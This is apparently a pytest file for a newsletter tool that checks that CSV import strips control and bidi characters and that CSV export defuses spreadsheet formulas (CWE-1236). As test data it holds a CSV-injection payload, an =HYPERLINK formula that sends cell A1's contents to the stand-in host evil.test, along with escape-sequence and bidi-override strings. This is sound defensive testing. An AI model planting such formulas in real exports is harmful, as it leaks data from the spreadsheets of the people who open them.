"""A CSV import (``newsletter subscribers import``) with NUL, an escape sequence and bidi
overrides in names and terms: every row is imported, as plain text, on SQLite and on
PostgreSQL (which refuses NUL in text)."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

from click.testing import CliRunner

from newsletter.cli import main
from newsletter.store import subscribers
from newsletter.store.db import Store

UNWANTED = re.compile(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def test_import_with_control_and_bidi_characters_stores_plain_text(
    database_url: str, tmp_path: Path
) -> None:
    rows = [
        "email,name,topics,authors",
        'ada@example.org,"Ada\x00 Love\u202elace","diffu\x00sion; graph\x1b[31m nets",Yann LeCun',
        "bob@example.org,Bob \u2066Smith\u2069\x7f,RAG,",
    ]
    csv_file = tmp_path / "people.csv"
    csv_file.write_text("\n".join(rows) + "\n", encoding="utf-8")
    env = {"NEWSLETTER_DATABASE_URL": database_url, "NEWSLETTER_SECRET_KEY": "k" * 26}
    result = CliRunner().invoke(
        main, ["--env-file", "/dev/null", "subscribers", "import", str(csv_file)], env=env
    )
    assert result.exit_code == 0, (result.output, result.exception)
    assert result.output.startswith("imported 2 subscribers")
    store = Store.open(database_url, now=dt.datetime.now(dt.UTC))
    try:
        with store.begin() as conn:
            people = {s.email: s for s in subscribers.list_all(conn)}
    finally:
        store.close()
    assert people["ada@example.org"].name == "Ada Lovelace"
    assert people["ada@example.org"].topics == ("diffusion", "graph[31m nets")
    assert people["bob@example.org"].name == "Bob Smith"
    for person in people.values():
        for text in (person.name, *person.topics, *person.profile.authors):
            assert not UNWANTED.search(text), repr(text)


def test_export_defuses_formulas_and_imports_them_back(tmp_path: Path) -> None:
    """A name or topic typed into the sign-up form as a spreadsheet formula must not run
    when the operator opens the export in Excel or LibreOffice (CSV injection, CWE-1236:
    a cell starting with = + - @ is a formula); importing the export gives the text back."""
    import csv

    from newsletter.models import Profile

    url = f"sqlite:///{tmp_path / 'list.db'}"
    now = dt.datetime(2026, 11, 26, 9, 0, tzinfo=dt.UTC)
    store = Store.open(url, now=now)
    formula = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
    with store.begin() as conn:
        subscribers.add(
            conn,
            "=cmd@example.org",
            now=now,
            name=formula,
            profile=Profile(topics=("+1 bit quantization", "-SUM(A1)"), authors=("@Ada",)),
        )
    store.close()
    env = {"NEWSLETTER_DATABASE_URL": url, "NEWSLETTER_SECRET_KEY": "k" * 26}
    exported = tmp_path / "list.csv"
    runner = CliRunner()
    done = runner.invoke(
        main, ["--env-file", "/dev/null", "subscribers", "export", str(exported)], env=env
    )
    assert done.exit_code == 0, done.output
    with exported.open(newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    restored = f"sqlite:///{tmp_path / 'restored.db'}"
    done = runner.invoke(
        main,
        ["--env-file", "/dev/null", "subscribers", "import", str(exported)],
        env={**env, "NEWSLETTER_DATABASE_URL": restored},
    )
    assert done.exit_code == 0, done.output
    store = Store.open(restored, now=now)
    with store.begin() as conn:
        (back,) = subscribers.list_all(conn)
    store.close()
    assert back.email == "=cmd@example.org" and back.name == formula
    assert back.topics == ("+1 bit quantization", "-SUM(A1)")
    assert back.profile.authors == ("@Ada",)
